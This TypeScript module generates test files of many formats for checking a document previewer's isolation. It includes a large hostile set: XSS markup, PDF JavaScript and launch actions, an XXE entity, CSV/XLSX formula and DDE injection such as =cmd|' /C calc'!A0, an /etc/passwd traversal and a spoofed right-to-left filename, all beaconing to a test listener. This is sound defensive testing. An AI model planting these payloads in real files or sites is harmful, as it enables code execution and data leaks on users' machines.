/** Documents of every previewed type, made by script: harmless ones, and ones whose every part tries to run or to call out. */
import { zipSync } from 'fflate';

const encoder = new TextEncoder();
const bytesOf = (text: string): Uint8Array => encoder.encode(text);

type Parts = Readonly<Record<string, string | Uint8Array>>;

function zipped(parts: Parts): Uint8Array {
  return zipSync(
    Object.fromEntries(
      Object.entries(parts).map(([path, part]) => [path, typeof part === 'string' ? bytesOf(part) : part]),
    ),
  );
}

/** Markup that runs or calls out wherever it is taken as HTML. @param listener  origin that may get no request */
export function activeMarkup(listener: string, name: string): string {
  const call = `${listener}/${encodeURIComponent(name)}`;
  return [
    `<script>document.title='executed';fetch('${call}-script')</script>`,
    `<img src="${call}-img" onerror="document.title='executed'">`,
    `<iframe src="${call}-frame" srcdoc="<script>parent.document.title='executed'</script>"></iframe>`,
    `<svg onload="document.title='executed'"><script>document.title='executed'</script></svg>`,
    `<link rel="stylesheet" href="${call}-style"><style>@import url('${call}-import');body{background:url('${call}-css')}</style>`,
    `<object data="${call}-object"></object><embed src="${call}-embed">`,
    `<a href="javascript:document.title='executed'" id="go">link</a><form action="${call}-form"><input autofocus onfocus="document.title='executed'"></form>`,
    `<meta http-equiv="refresh" content="0;url=${call}-refresh"><base href="${call}-base/">`,
  ].join('\n');
}

/** @param shown  a string of the format; @param font  objects, the first one is the font */
function pdfFrom(shown: string, catalog: string, font: readonly string[], objects: readonly string[] = []): Uint8Array {
  const stream = `BT /F1 24 Tf 40 700 Td ${shown} Tj ET`;
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [6 0 R] >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    font[0] ?? '',
    ...(objects.length > 0 ? objects : ['<< /Type /Annot /Subtype /Text /Rect [0 0 1 1] /Contents (x) >>']),
    ...font.slice(1),
  ];
  return pdfWith(all);
}

/** @param all  objects, numbered from 1; the first one is the catalog */
function pdfWith(all: readonly string[]): Uint8Array {
  let body = '%PDF-1.7\n';
  const offsets: number[] = [];
  for (const [index, object] of all.entries()) {
    offsets.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  }
  const xref = body.length;
  body += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  return bytesOf(`${body}trailer\n<< /Size ${all.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
}

/** @param catalog  entries of the document's dictionary */
export function pdfOf(text: string, catalog = '', objects: readonly string[] = []): Uint8Array {
  const font = ['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'];
  return pdfFrom(`(${text.replace(/[()\\]/g, '')})`, catalog, font, objects);
}

/** Two pages, of which the first is cut off, or gone: its bytes are zeros, and readers find none behind it. */
export function damagedPdfOf(text: string, how: 'cut' | 'gone' = 'cut'): Uint8Array {
  const stream = `BT /F1 24 Tf 40 700 Td (${text}) Tj ET`;
  const cut = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 5';
  const bytes = pdfWith([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
    cut,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 6 0 R >> >> /Contents 5 0 R >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
  if (how === 'cut') return bytes;
  const whole = new TextDecoder('latin1').decode(bytes);
  return bytes.fill(0, whole.indexOf('3 0 obj'), whole.indexOf('4 0 obj'));
}

/** A form of XFA, whose one page asks for another program. */
export function xfaFormOf(text: string): Uint8Array {
  const form = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>';
  return pdfOf(text, '/AcroForm << /Fields [] /XFA 6 0 R >>', [
    `<< /Length ${form.length} >>\nstream\n${form}\nendstream`,
  ]);
}

/** A document that embeds no font. @param codes  hex digits of Shift JIS */
export function japanesePdfOf(codes: string): Uint8Array {
  return pdfFrom(`<${codes}>`, '', [
    '<< /Type /Font /Subtype /Type0 /BaseFont /HeiseiMin-W3 /Encoding /90ms-RKSJ-H /DescendantFonts [7 0 R] >>',
    '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiMin-W3 /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor 8 0 R >>',
    '<< /Type /FontDescriptor /FontName /HeiseiMin-W3 /Flags 4 /FontBBox [0 -200 1000 900] /ItalicAngle 0 /Ascent 859 /Descent -140 /CapHeight 700 /StemV 80 >>',
  ]);
}

const RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';

function relationships(list: readonly string[]): string {
  return `${XML}<Relationships xmlns="${RELS}">${list.join('')}</Relationships>`;
}

const relation = (id: string, type: string, target: string, isExternal = false) =>
  `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`;

function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
}

export function docxOf(text: string, body = '', relations: readonly string[] = [], more: Parts = {}): Uint8Array {
  return zipped({
    '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    '_rels/.rels': relationships([relation('rId1', 'officeDocument', 'word/document.xml')]),
    'word/_rels/document.xml.rels': relationships(relations),
    'word/document.xml': `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:body><w:p><w:r><w:t>${escaped(text)}</w:t></w:r></w:p>${body}</w:body></w:document>`,
    ...more,
  });
}

export function xlsxOf(rows: readonly (readonly string[])[], formula = ''): Uint8Array {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const cells = rows.map(
    (row, y) =>
      `<row r="${y + 1}">${row.map((value, x) => `<c r="${String.fromCharCode(65 + x)}${y + 1}" t="inlineStr"><is><t>${escaped(value)}</t></is></c>`).join('')}</row>`,
  );
  const last =
    formula === ''
      ? ''
      : `<row r="${rows.length + 1}"><c r="A${rows.length + 1}"><f>${escaped(formula)}</f><v>7</v></c></row>`;
  return zipped({
    'xl/workbook.xml': `${XML}<workbook xmlns="${main}" xmlns:r="${OFFICE}"><sheets><sheet name="Sheet one" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': relationships([relation('rId1', 'worksheet', 'worksheets/sheet1.xml')]),
    'xl/worksheets/sheet1.xml': `${XML}<worksheet xmlns="${main}"><sheetData>${cells.join('')}${last}</sheetData></worksheet>`,
  });
}

export function pptxOf(title: string, relations: readonly string[] = [], shapes = ''): Uint8Array {
  const a = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"';
  const p = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"';
  const box = '<p:spPr><a:xfrm><a:off x="914400" y="914400"/><a:ext cx="7315200" cy="914400"/></a:xfrm></p:spPr>';
  return zipped({
    'ppt/presentation.xml': `${XML}<p:presentation ${a} ${p} xmlns:r="${OFFICE}"><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst><p:sldSz cx="9144000" cy="5143500"/></p:presentation>`,
    'ppt/_rels/presentation.xml.rels': relationships([relation('rId1', 'slide', 'slides/slide1.xml')]),
    'ppt/slides/slide1.xml': `${XML}<p:sld ${a} ${p} xmlns:r="${OFFICE}"><p:cSld><p:spTree><p:sp>${box}<p:txBody><a:p><a:r><a:rPr sz="4000"/><a:t>${escaped(title)}</a:t></a:r></a:p></p:txBody></p:sp>${shapes}</p:spTree></p:cSld></p:sld>`,
    'ppt/slides/_rels/slide1.xml.rels': relationships(relations),
  });
}

export function epubOf(chapter: string, more: Parts = {}): Uint8Array {
  return zipped({
    mimetype: 'application/epub+zip',
    'META-INF/container.xml': `${XML}<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`,
    'OEBPS/book.opf': `${XML}<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><manifest><item id="c1" href="one.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="c1"/></spine></package>`,
    'OEBPS/one.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>${chapter}</body></html>`,
    ...more,
  });
}

/** A TIFF of one colour without compression. */
export function tiffOf(width: number, height: number): Uint8Array {
  const pixels = new Uint8Array(width * height * 3).fill(0x80);
  const tags = [
    [256, 4, 1, width],
    [257, 4, 1, height],
    [258, 3, 1, 8],
    [259, 3, 1, 1],
    [262, 3, 1, 2],
    [273, 4, 1, 8],
    [277, 3, 1, 3],
    [278, 4, 1, height],
    [279, 4, 1, pixels.length],
  ] as const;
  const file = new Uint8Array(8 + pixels.length + 2 + tags.length * 12 + 4);
  const view = new DataView(file.buffer);
  file.set([0x49, 0x49, 0x2a, 0]);
  view.setUint32(4, 8 + pixels.length, true);
  file.set(pixels, 8);
  view.setUint16(8 + pixels.length, tags.length, true);
  for (const [index, [tag, type, count, value]] of tags.entries()) {
    const at = 8 + pixels.length + 2 + index * 12;
    view.setUint16(at, tag, true);
    view.setUint16(at + 2, type, true);
    view.setUint32(at + 4, count, true);
    view.setUint32(at + 8, value, true);
  }
  return file;
}

/** A second of a tone. @param seconds  length */
export function wavOf(seconds: number): Uint8Array {
  const rate = 8_000;
  const samples = Math.round(seconds * rate);
  const file = new Uint8Array(44 + samples);
  const view = new DataView(file.buffer);
  file.set(bytesOf('RIFF'));
  view.setUint32(4, 36 + samples, true);
  file.set(bytesOf('WAVEfmt '), 8);
  view.setUint32(16, 16, true);
  view.setUint16(20, 1, true);
  view.setUint16(22, 1, true);
  view.setUint32(24, rate, true);
  view.setUint32(28, rate, true);
  view.setUint16(32, 1, true);
  view.setUint16(34, 8, true);
  file.set(bytesOf('data'), 36);
  view.setUint32(40, samples, true);
  for (let at = 0; at < samples; at += 1) file[44 + at] = 128 + Math.round(40 * Math.sin(at / 3));
  return file;
}

export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array;
}

/** Every type whose viewer takes markup: the markup itself under that name. */
const POLYGLOT_TYPES =
  'png jpg gif webp avif bmp ico svg heic tif pdf md markdown csv tsv txt log json js ts html htm xhtml xml css docx xlsx pptx epub mp3 flac wav mp4 webm mkv m3u8 vtt srt zip rar 7z exe'.split(
    ' ',
  );

/** More than 60 files that run or call out wherever a viewer takes them for more than they are. */
export function hostileFiles(listener: string): readonly HostileFile[] {
  const markup = (name: string) => activeMarkup(listener, name);
  const polyglots = POLYGLOT_TYPES.map((type) => ({ name: `poly.${type}`, bytes: bytesOf(markup(`poly.${type}`)) }));
  const script = (name: string) => `app.launchURL("${listener}/${name}");this.submitForm("${listener}/${name}");`;
  const file = (name: string, bytes: Uint8Array | string): HostileFile => ({
    name,
    bytes: typeof bytes === 'string' ? bytesOf(bytes) : bytes,
  });
  const svg = (name: string, inner: string) =>
    file(
      name,
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"><rect width="40" height="40" fill="red"/>${inner}</svg>`,
    );
  return [
    ...polyglots,
    svg('script.svg', `<script>document.title='executed';fetch('${listener}/svg')</script>`),
    svg('onload.svg', `<g onload="document.title='executed'"/>`),
    svg(
      'foreign.svg',
      `<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${listener}/svg-foreign" onerror="document.title='executed'"/></body></foreignObject>`,
    ),
    svg(
      'image.svg',
      `<image href="${listener}/svg-image" width="9" height="9"/><use xlink:href="${listener}/svg-use#a"/>`,
    ),
    svg('style.svg', `<style>@import url('${listener}/svg-import');rect{fill:url('${listener}/svg-fill')}</style>`),
    file(
      'entity.svg',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "${listener}/svg-entity">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    ),
    file(
      'script.pdf',
      pdfOf('open', `/OpenAction << /S /JavaScript /JS (${script('pdf').replace(/[()]/g, '\\$&')}) >>`),
    ),
    file(
      'names.pdf',
      pdfOf('names', `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>`),
    ),
    file('uri.pdf', pdfOf('uri', `/OpenAction << /S /URI /URI (${listener}/pdf-uri) >>`)),
    file('launch.pdf', pdfOf('launch', `/OpenAction << /S /GoToR /F (${listener}/pdf-launch) >>`)),
    file(
      'link.pdf',
      pdfOf('link', '', [
        `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:document.title='executed') >> >>`,
      ]),
    ),
    file(
      'xfa.pdf',
      pdfOf(
        'xfa',
        `/AcroForm << /XFA [(template) (<template><event><script>xfa.host.gotoURL\\("${listener}/xfa"\\)</script></event></template>)] >>`,
      ),
    ),
    file('raw.md', `# Title\n\n${markup('raw.md')}\n\n<div>\n\n**bold**\n`),
    file(
      'links.md',
      `[a](javascript:document.title='executed') ![b](${listener}/md-image) <${listener}/md-auto>\n\n[c]: javascript:alert(1)\n[c]`,
    ),
    file(
      'nested.md',
      `- <details ontoggle="document.title='executed'" open>x</details>\n\n\`\`\`html\n${markup('nested.md')}\n\`\`\`\n`,
    ),
    file(
      'formulas.csv',
      `=HYPERLINK("${listener}/csv","x"),=cmd|' /C calc'!A0,@SUM(1),+1,-1\n"=WEBSERVICE(""${listener}/csv-web"")",<script>document.title='executed'</script>`,
    ),
    file('cells.csv', `"${markup('cells.csv').replaceAll('"', '""')}"`),
    file('book.epub', epubOf(markup('book.epub'))),
    file(
      'pictures.epub',
      epubOf(
        `<p>x</p><img src="${listener}/epub-img"/><img src="../../../etc/passwd"/><img src="javascript:alert(1)"/>`,
      ),
    ),
    file('xml.epub', epubOf('<p>x</p>', { 'META-INF/container.xml': `<!DOCTYPE a [<!ENTITY x "y">]><container/>` })),
    file(
      'external.docx',
      docxOf(
        'external',
        `<w:p><w:hyperlink r:id="rId9"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p><w:altChunk r:id="rId8"/>`,
        [
          relation('rId9', 'hyperlink', "javascript:document.title='executed'", true),
          relation('rId7', 'attachedTemplate', `${listener}/docx-template`, true),
          relation('rId6', 'image', `${listener}/docx-image`, true),
          relation('rId8', 'aFChunk', 'chunk.html'),
        ],
        { 'word/chunk.html': markup('docx-chunk') },
      ),
    ),
    file('markup.docx', docxOf(markup('markup.docx'))),
    file('formula.xlsx', xlsxOf([[markup('formula.xlsx'), '=1+1']], `WEBSERVICE("${listener}/xlsx")`)),
    file(
      'markup.pptx',
      pptxOf(
        markup('markup.pptx'),
        [relation('rId2', 'image', `${listener}/pptx-image`, true)],
        '<p:pic><p:blipFill><a:blip r:embed="rId2"/></p:blipFill></p:pic>',
      ),
    ),
    file('playlist.m3u8', `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n${listener}/segment.ts\n#EXT-X-ENDLIST\n`),
    file('code.html', `<!doctype html>\n${markup('code.html')}`),
    file('mime\u202Egnp.html', markup('rtl.html')),
  ];
}
